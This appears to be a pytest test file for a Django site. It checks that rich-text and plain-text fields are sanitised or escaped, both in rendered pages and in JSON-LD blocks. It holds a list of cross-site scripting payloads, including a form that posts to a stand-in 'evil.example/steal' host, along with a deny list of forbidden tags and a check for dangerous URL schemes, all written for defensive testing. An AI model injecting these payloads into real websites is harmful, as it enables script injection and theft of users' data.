"""Whatever reaches a rich-text field, the page and its JSON-LD carry no active content.

Two ways in: through the ORM (save() sanitises) and raw with QuerySet.update(),
which skips save(), so only the sanitiser at render time protects the page.
"""

import json
import re
from html.parser import HTMLParser

import pytest

from services.models import Question, Service
from tests.factories import make_condition, make_question, make_service
from tests.pages import without_stylesheet

pytestmark = pytest.mark.django_db

PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" &#106;avascript:alert(1)">x</a>',
    "<svg onload=alert(1)>",
    '<iframe src="https://evil.example"></iframe>',
    '<p style="color:red" onclick="x()">t</p>',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    "<math><mtext><script>alert(1)</script></mtext></math>",
    '"><script>alert(1)</script>',
    "<style>body{display:none}</style>",
    '<object data="https://evil.example/x.swf"></object>',
    '<form action="https://evil.example/steal"><button>Send</button></form>',
    "<input autofocus onfocus=alert(1)>",
    "<p><strong onmouseover=alert(1)>bold</strong></p>",
    "</script><script>alert(1)</script>",
]
RICH_TEXT_FIELDS = [(Service, "intro"), (Service, "aftercare"), (Question, "answer")]
FORBIDDEN_TAGS = {"iframe", "object", "embed", "svg", "math", "form", "input", "button", "style", "base"}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "xlink:href"}


class Tags(HTMLParser):
    def __init__(self, html):
        super().__init__()
        self.tags = []
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))


def assert_no_active_content(html):
    if "</head>" in html:
        html = without_stylesheet(html)  # the page's own, allowed by its hash; any other <style> still fails
    for tag, attrs in Tags(html).tags:
        assert tag not in FORBIDDEN_TAGS, tag
        if tag == "script":
            assert attrs.get("type") == "application/ld+json", attrs
        for name, value in attrs.items():
            assert not name.startswith("on"), f"<{tag} {name}>"
            assert name != "style", f"<{tag} style>"
            if name in URL_ATTRIBUTES and value:
                assert not re.match(r"\s*(javascript|data|vbscript):", value, re.I), f"<{tag} {name}={value}>"
    assert len(re.findall(r"<script\b", html, re.I)) == html.count('<script type="application/ld+json">')
    assert not re.search(r"javascript:", html, re.I)


def json_ld_strings(html):
    """Every string in every JSON-LD block (answers are HTML there too)."""

    def walk(value):
        if isinstance(value, dict):
            for item in value.values():
                yield from walk(item)
        elif isinstance(value, list):
            for item in value:
                yield from walk(item)
        elif isinstance(value, str):
            yield value

    for block in re.findall(r'<script type="application/ld\+json">(.*?)</script>', html, re.S):
        yield from walk(json.loads(block))


def page_with_rich_text(payload, through):
    service = make_service()
    question = make_question(service)
    if through == "orm":
        service.intro = service.aftercare = payload
        service.save()
        question.answer = payload
        question.save()
    else:
        Service.objects.filter(pk=service.pk).update(intro=payload, aftercare=payload)
        Question.objects.filter(pk=question.pk).update(answer=payload)
    return service, question


@pytest.mark.parametrize("through", ["orm", "update"])
@pytest.mark.parametrize("payload", PAYLOADS)
def test_rich_text_renders_without_active_content(client, payload, through):
    service, _ = page_with_rich_text(payload, through)
    response = client.get(service.get_absolute_url())
    assert response.status_code == 200
    html = response.content.decode()
    assert_no_active_content(html)
    for text in json_ld_strings(html):
        assert_no_active_content(text)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_saving_through_the_orm_stores_clean_rich_text(payload):
    service, question = page_with_rich_text(payload, "orm")
    for model, field in RICH_TEXT_FIELDS:
        stored = model.objects.values_list(field, flat=True).get(pk=(question if model is Question else service).pk)
        assert_no_active_content(stored)


def test_an_allowed_link_and_formatting_survive(client):
    service = make_service(intro='<p><strong>Bold</strong> and <a href="https://example.org/x">a link</a></p>')
    html = client.get(service.get_absolute_url()).content.decode()
    assert "<strong>Bold</strong>" in html and 'href="https://example.org/x"' in html


PLAIN = '"><img src=x onerror=alert(1)><script>alert(1)</script>'
ESCAPED = "&quot;&gt;&lt;img src=x onerror=alert(1)&gt;&lt;script&gt;alert(1)&lt;/script&gt;"


@pytest.fixture
def plain_text_payloads():
    condition = make_condition(name=PLAIN, summary=PLAIN)
    service = make_service(title=PLAIN, summary=PLAIN, other_combined_treatments=PLAIN)
    make_question(service, question=PLAIN)
    service.conditions.add(condition)
    return service, condition


@pytest.mark.parametrize("page", ["service", "condition", "/services/", "/conditions/"])
def test_plain_text_fields_are_escaped(client, plain_text_payloads, page):
    service, condition = plain_text_payloads
    url = {"service": service.get_absolute_url(), "condition": condition.get_absolute_url()}.get(page, page)
    html = client.get(url).content.decode()
    assert ESCAPED in html
    assert PLAIN not in html
    assert_no_active_content(html)
    assert not re.search(r"<img\b", html)


def test_plain_text_in_json_ld_stays_inside_its_block(client, plain_text_payloads):
    service, _ = plain_text_payloads
    html = client.get(service.get_absolute_url()).content.decode()
    assert list(json_ld_strings(html)).count(PLAIN) == 4  # page name, procedure name and description, FAQ question
    assert_no_active_content(html)
